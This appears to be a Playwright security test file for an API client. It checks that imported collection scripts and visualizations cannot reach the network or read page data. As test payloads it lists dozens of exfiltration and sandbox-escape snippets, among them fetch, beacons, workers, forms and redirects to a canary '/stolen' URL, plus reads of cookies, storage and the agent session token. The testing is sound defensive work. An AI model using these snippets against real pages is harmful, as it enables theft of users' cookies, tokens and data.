/** What scripts and visualizations of a collection must not reach. A server listens as the canary; controls show that it hears. */
import type { Page } from '@playwright/test';
import { Canary } from './canary.ts';
import { expect, test } from './fixtures.ts';
import { collectionsTree, dropFile, expectSaved, treeItem } from './steps.ts';

/** Code that works with `url`, the canary's address. Each is tried in a script, and those with a document in a visualization. */
const IN_WORKER: Readonly<Record<string, string>> = {
  fetch: 'await fetch(url)',
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', url); x.send()",
  'synchronous XMLHttpRequest':
    "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
  WebSocket: "new WebSocket(url.replace('http', 'ws'))",
  EventSource: 'new EventSource(url)',
  beacon: "navigator.sendBeacon(url, 'x')",
  'import of http': 'await import(url)',
  'import of data':
    "await import('data:text/javascript,' + encodeURIComponent('fetch(\"' + url + '\")'))",
  'import of a blob':
    "await import(URL.createObjectURL(new Blob(['fetch(\"' + url + '\")'], { type: 'text/javascript' })))",
  importScripts: 'importScripts(url)',
  'nested worker of data':
    "new Worker('data:text/javascript,' + encodeURIComponent('fetch(\"' + url + '\")'))",
  'nested worker of a blob':
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + url + '\")'])))",
  WebRTC:
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + new URL(url).port }] }); p.createDataChannel('x'); await p.setLocalDescription()",
  WebTransport: 'new WebTransport(url)',
  image: 'new Image().src = url',
  'service worker': 'await navigator.serviceWorker.register(url)',
};

/** The same with what the global object still has, should a script get hold of it. */
const throughGlobal = Object.fromEntries(
  Object.entries(IN_WORKER).map(([name, code]) => [
    `${name}, through the global object`,
    `await Function('url', 'return (async () => { ${code.replaceAll('\\', '\\\\').replaceAll("'", "\\'")} })()')(url)`,
  ]),
);

const LEAKS: Readonly<Record<string, string>> = {
  'the document': 'leak(document.title)',
  'the page above': 'leak(parent.location.href)',
  'local storage': 'leak(localStorage.length)',
  'session storage': 'leak(sessionStorage.length)',
  IndexedDB:
    "const open = indexedDB.open('scratchpad-local'); await new Promise((done, fail) => { open.onsuccess = () => done(leak('indexedDB')); open.onerror = fail; })",
  caches: 'leak((await caches.keys()).length)',
  cookies: 'leak(document.cookie)',
  'cookie store': 'leak((await cookieStore.getAll()).length)',
  'the token of the agent':
    "const answer = await fetch('/api/agent/session', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }); leak((await answer.json()).token)",
  'the opener': 'leak(opener.location.href)',
  'broadcasts of the app':
    "const channel = new BroadcastChannel('scratchpad-current-values'); channel.onmessage = () => leak('heard'); channel.postMessage('x'); await new Promise((done) => setTimeout(done, 50))",
};

const DOCUMENT_ONLY: Readonly<Record<string, string>> = {
  link: "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = url; document.head.append(l)",
  prefetch:
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = url; document.head.append(l)",
  preload:
    "const l = document.createElement('link'); l.rel = 'preload'; l.as = 'image'; l.href = url; document.head.append(l)",
  modulepreload:
    "const l = document.createElement('link'); l.rel = 'modulepreload'; l.href = url; document.head.append(l)",
  script: "const s = document.createElement('script'); s.src = url; document.head.append(s)",
  frame: "const f = document.createElement('iframe'); f.src = url; document.body.append(f)",
  'fetch of a frame of its own':
    "const f = document.createElement('iframe'); document.body.append(f); await f.contentWindow.fetch(url)",
  object: "const o = document.createElement('object'); o.data = url; document.body.append(o)",
  form: "document.body.insertAdjacentHTML('beforeend', `<form action='${url}' method=post></form>`); document.forms[0].submit()",
  style: 'document.body.style.background = `url(${url})`',
  font: "await new FontFace('x', `url(${url})`).load()",
  video: "const v = document.createElement('video'); v.src = url; document.body.append(v)",
  ping: "const a = document.createElement('a'); a.href = '#x'; a.ping = url; document.body.append(a); a.click()",
  popup: 'open(url)',
  'the top page': 'top.location.href = url',
  'speculation rules':
    "document.body.insertAdjacentHTML('beforeend', ''); const s = document.createElement('script'); s.type = 'speculationrules'; s.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [url] }] }); document.head.append(s)",
};

async function openRequest(page: Page, name: string, url: string, code: string): Promise<void> {
  const file = {
    info: { name, schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
    item: [
      {
        name: `${name} request`,
        request: { method: 'GET', url },
        event: [{ listen: 'test', script: { exec: code.split('\n') } }],
      },
    ],
  };
  await dropFile(page, `${name}.json`, Buffer.from(JSON.stringify(file)));
  const dialog = page.getByRole('dialog', { name: 'Import' });
  await dialog.getByRole('button', { name: /^Import \d/ }).click();
  await expect(dialog).toBeHidden();
  await collectionsTree(page).getByRole('treeitem', { name, exact: true }).click();
  await page.keyboard.press('ArrowRight');
  await treeItem(page, `GET ${name} request`).dblclick();
  await page.getByRole('button', { name: 'Send', exact: true }).click();
}

test.describe('in the page', () => {
  let canary: Canary;
  test.beforeEach(async () => {
    canary = await Canary.start();
  });
  test.afterEach(() => canary.stop());

  test('a script reaches neither network nor page', async ({ app, api }) => {
    const tries = { ...IN_WORKER, ...throughGlobal, ...LEAKS };
    const code = [
      `const url = ${JSON.stringify(canary.url)} + '/stolen';`,
      "const leak = (what) => console.log('LEAK', what);",
      ...Object.entries(tries).map(
        ([name, body]) => `try { ${body}; } catch {}\nconsole.log('tried ${name}');`,
      ),
      'await new Promise((done) => setTimeout(done, 500));',
      `const answer = await pm.sendRequest(${JSON.stringify(canary.url)} + '/control');`,
      "pm.test('all was tried', () => pm.expect(answer.code).to.equal(200));",
    ].join('\n');
    await openRequest(app, 'Escapes', `${api.url}/echo`, code);
    await expect(
      app.getByRole('region', { name: 'Response' }).getByRole('tab', { name: 'Test results' }),
    ).toContainText('1/1');
    await app.keyboard.press('Alt+c');
    const log = app.getByRole('log', { name: 'Console entries' });
    await app.getByRole('textbox', { name: 'Filter the console' }).fill('LEAK');
    await expect(log).toBeHidden();
    await app
      .getByRole('textbox', { name: 'Filter the console' })
      .fill('tried service worker, through');
    await expect(log).toContainText('tried service worker, through the global object');
    expect(canary.heard.filter((what) => what !== 'connection')).toEqual(['/control']);
    // The one connection is the agent's.
    expect(canary.heard.filter((what) => what === 'connection')).toHaveLength(1);
  });

  test('what a script does to a prototype is gone with its run', async ({ app, api }) => {
    await openRequest(
      app,
      'Spoils',
      `${api.url}/echo`,
      "Object.prototype.spoiled = 1; pm.constructor.prototype.spoiled = 1; JSON.parse = () => 'x'; pm.test('spoiled', () => {});",
    );
    const tab = app
      .getByRole('region', { name: 'Response' })
      .getByRole('tab', { name: 'Test results' });
    await expect(tab).toContainText('1/1');
    await openRequest(
      app,
      'Clean',
      `${api.url}/echo`,
      "pm.test('clean', () => { pm.expect({}.spoiled).to.equal(undefined); pm.expect(JSON.parse('1')).to.equal(1); }); pm.test('two', () => {});",
    );
    await expect(tab).toContainText('2/2');
  });

  test('a visualization reaches nothing, and has its data', async ({ app, api }) => {
    const tries = { ...IN_WORKER, ...DOCUMENT_ONLY, ...LEAKS };
    const attempts = Object.entries(tries)
      .map(([name, body]) => `try { ${body}; } catch {} tried.push(${JSON.stringify(name)});`)
      .join('\n');
    const template = `<p id="out"></p><script>
      const url = ${JSON.stringify(canary.url)} + '/stolen';
      const leaks = [];
      const leak = (what) => leaks.push(String(what));
      const tried = [];
      pm.getData(async (error, data) => {
        ${attempts}
        await new Promise((done) => setTimeout(done, 800));
        out.textContent = data.name + ' tried ' + tried.length + ' leaks ' + leaks.join();
      });
    </script>`;
    const code = `pm.visualizer.set(${JSON.stringify(template)}.replaceAll('<\\\\/', '</'), { name: 'Orders' });\npm.test('set', () => {});`;
    await openRequest(app, 'Draws', `${api.url}/echo`, code);
    await app
      .getByRole('region', { name: 'Response' })
      .getByRole('tab', { name: 'Visualize' })
      .click();
    const out = app.frameLocator('iframe[title="Visualization"]').locator('#out');
    await expect(out).toHaveText(`Orders tried ${Object.keys(tries).length} leaks`, {
      timeout: 30_000,
    });
    expect(canary.heard).toEqual([]);
    expect(app.url()).toContain('/request/');

    // The control: with the user's permission the same template does reach the server.
    await app.getByRole('button', { name: 'Allow for this request' }).click();
    await expect
      .poll(() => canary.heard.filter((what) => what.startsWith('/stolen')).length)
      .toBeGreaterThan(0);
  });

  test('a visualization cannot lead its frame to another server', async ({ app, api }) => {
    const template = `<p>drawn</p><script>setTimeout(() => { location.href = ${JSON.stringify(canary.url)} + '/stolen?' + pm.getData; }, 2500)</script>`;
    await openRequest(
      app,
      'Leads',
      `${api.url}/echo`,
      `pm.visualizer.set(${JSON.stringify(template)}, {});`,
    );
    await app
      .getByRole('region', { name: 'Response' })
      .getByRole('tab', { name: 'Visualize' })
      .click();
    await expect(
      app.frameLocator('iframe[title="Visualization"]').getByText('drawn'),
    ).toBeVisible();
    // What does not happen cannot be waited for.
    await app.waitForTimeout(4000);
    expect(canary.heard).toEqual([]);
  });
});

test.describe('in the page, offline', () => {
  test.use({ serviceWorkers: 'allow' });

  test('scripts run in their frame out of the cache', async ({ app, context }) => {
    await app.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    await app.reload();
    await context.setOffline(true);
    await app.reload();
    await expectSaved(app);
    await openRequest(
      app,
      'Offline',
      'http://127.0.0.1:1/',
      "pm.test('runs', () => pm.expect(typeof fetch).to.equal('undefined'));",
    );
    await expect(
      app.getByRole('region', { name: 'Response' }).getByRole('tab', { name: 'Test results' }),
    ).toContainText('1/1', { timeout: 60_000 });
    await context.setOffline(false);
  });
});
